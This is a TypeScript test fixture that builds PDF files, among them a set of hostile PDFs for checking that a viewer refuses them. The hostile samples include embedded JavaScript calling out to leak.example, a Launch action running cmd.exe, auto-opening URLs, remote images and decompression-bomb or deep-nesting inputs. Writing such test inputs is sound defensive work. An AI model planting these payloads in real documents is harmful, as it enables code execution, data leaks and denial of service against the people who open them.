/** A PDF (ISO 32000-1 §7.5) of these objects, numbered from 1; the first is its catalogue. `startxref`: where it says that its table lies. */
export const pdfOf = (objects: readonly (string | Buffer)[], startxref?: number): Buffer => {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = pieces[0]?.byteLength ?? 0;
  const places = objects.map((object, index) => {
    const place = at;
    const piece = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object as string), Buffer.from('\nendobj\n')]);
    pieces.push(piece);
    at += piece.byteLength;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${startxref ?? at}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(end)]);
};

export const stream = (content: string | Buffer, more = ''): Buffer => {
  const bytes = Buffer.from(content as string);
  return Buffer.concat([Buffer.from(`<< /Length ${bytes.byteLength} ${more} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
};

/** Lines of text on a page, from its top. */
const words = (lines: readonly string[]): string =>
  `BT /F1 20 Tf 60 760 Td 28 TL ${lines.map((line) => `(${line.replace(/[\\()]/g, '\\$&')}) Tj T*`).join(' ')} ET`;

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
/** Catalogue, pages and font are objects 1 to 3. */
const withPages = (kids: string, count: number, more: readonly (string | Buffer)[], catalogue = ''): (string | Buffer)[] => [
  `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
  `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
  FONT,
  ...more,
];
const page = (contents: string, more = '', box = '0 0 595 842'): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Resources << /Font << /F1 3 0 R >> >> /Contents ${contents} ${more} >>`;

const link = (action: string): string => `<< /Type /Annot /Subtype /Link /Rect [60 600 400 640] /Border [0 0 0] /A ${action} >>`;

/** A comparison of three burglaries, which leads to an address on its second page. */
export const threePages = (): Buffer =>
  pdfOf(
    withPages('4 0 R 5 0 R 6 0 R', 3, [
      page('7 0 R'),
      page('8 0 R', '/Annots [10 0 R]'),
      page('9 0 R', '/Rotate 90'),
      stream(
        words([
          'Comparison of method, series PR25',
          'Balfour Street: rear patio door',
          'Turpin Green Lane: lock snapped',
          'Broad Street: mole grips',
        ]),
      ),
      stream(`${words(['Doorbell footage: see the force page'])} 0.1 0.3 0.6 rg 60 300 200 120 re f`),
      stream(words(['Plan of the garden'])),
      link('<< /S /URI /URI (https://lancashire.example/footage?id=1587) >>'),
    ]),
  );

const one = (content: string, catalogue = '', more = '', box?: string, rest: readonly (string | Buffer)[] = []): Buffer =>
  pdfOf(withPages('4 0 R', 1, [page('5 0 R', more, box), stream(content), ...rest], catalogue));

const script = '<< /S /JavaScript /JS (document.title = "ran"; app.alert("ran"); app.launchURL("https://leak.example/js")) >>';
/** Of a form that multiplies: each draws the next ten times. */
const laughing = (): Buffer => {
  const depth = 12;
  const forms = Array.from({ length: depth }, (_, index) =>
    index === depth - 1
      ? stream('0 0 10 10 re f ', '/Type /XObject /Subtype /Form /BBox [0 0 600 800]')
      : stream(
          '/X Do '.repeat(10),
          `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X ${7 + index} 0 R >> >>`,
        ),
  );
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    FONT,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >> /Contents 5 0 R >>',
    stream('/X Do'),
    ...forms,
  ]);
};

/** Which asks for what no viewer should do, or is not what it says; each with the words that stand on its page, if any can be read. */
export const hostilePdfs: Readonly<Record<string, { readonly pdf: () => Buffer; readonly shows?: string; readonly says?: RegExp }>> = {
  'a script that opens with it': {
    pdf: () =>
      one(words(['With a script']), `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >>`),
    shows: 'With a script',
  },
  'a program to start': {
    pdf: () =>
      one(
        words(['With a program']),
        '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
        '/Annots [6 0 R]',
        undefined,
        [link('<< /S /Launch /F (cmd.exe) >>')],
      ),
    shows: 'With a program',
  },
  'an address that opens with it': {
    pdf: () => one(words(['With an address']), '/OpenAction << /S /URI /URI (https://leak.example/open) >>'),
    shows: 'With an address',
  },
  'a script for an address': {
    pdf: () => one(words(['With a link']), '', '/Annots [6 0 R]', undefined, [link('<< /S /URI /URI (javascript:document.title=1) >>')]),
    shows: 'With a link',
  },
  'a picture that lies elsewhere': {
    pdf: () =>
      pdfOf(
        withPages('4 0 R', 1, [
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /I 6 0 R >> >> /Contents 5 0 R >>',
          stream(`${words(['From elsewhere'])} q 500 0 0 500 0 0 cm /I Do Q`),
          stream(
            '',
            '/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (https://leak.example/i) >>',
          ),
        ]),
      ),
    shows: 'From elsewhere',
  },
  'a page of a thousand kilometres': { pdf: () => one(words(['Far']), '', '/UserUnit 75000', '0 0 1000000000 1400000000'), shows: 'Far' },
  'a page that is a strip': { pdf: () => one(words(['Thin']), '', '', '0 0 10 10000000'), says: /strip/ },
  'a picture of ten thousand million pixels': {
    pdf: () =>
      pdfOf(
        withPages('4 0 R', 1, [
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /I 6 0 R >> >> /Contents 5 0 R >>',
          stream(`${words(['A picture'])} q 500 0 0 500 0 0 cm /I Do Q`),
          stream('x', '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8'),
        ]),
      ),
    shows: 'A picture',
  },
  'a table that lies elsewhere': {
    pdf: () => pdfOf(withPages('4 0 R', 1, [page('5 0 R'), stream(words(['Found again']))]), 7),
    shows: 'Found again',
  },
  'arrays a hundred thousand deep': {
    pdf: () => one(words(['Deep']), `/Deep ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    says: /could not be read|Deep|stopped/,
  },
  'pages that contain themselves': { pdf: () => pdfOf(withPages('2 0 R', 1, [])), says: /could not be drawn|could not be read/ },
  'objects in objects without end': {
    pdf: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '2 0 R', '<< >>']),
    says: /could not be drawn|could not be read/,
  },
  'no PDF at all': { pdf: () => Buffer.from('<html><script>document.title = "ran"</script>'), says: /could not be read/ },
  nothing: { pdf: () => Buffer.alloc(0), says: /could not be read/ },
};

export const manyPages = (): Buffer => pdfOf(withPages('4 0 R '.repeat(100_000), 100_000, [page('5 0 R'), stream(words(['One of many']))]));
export const endless = laughing;
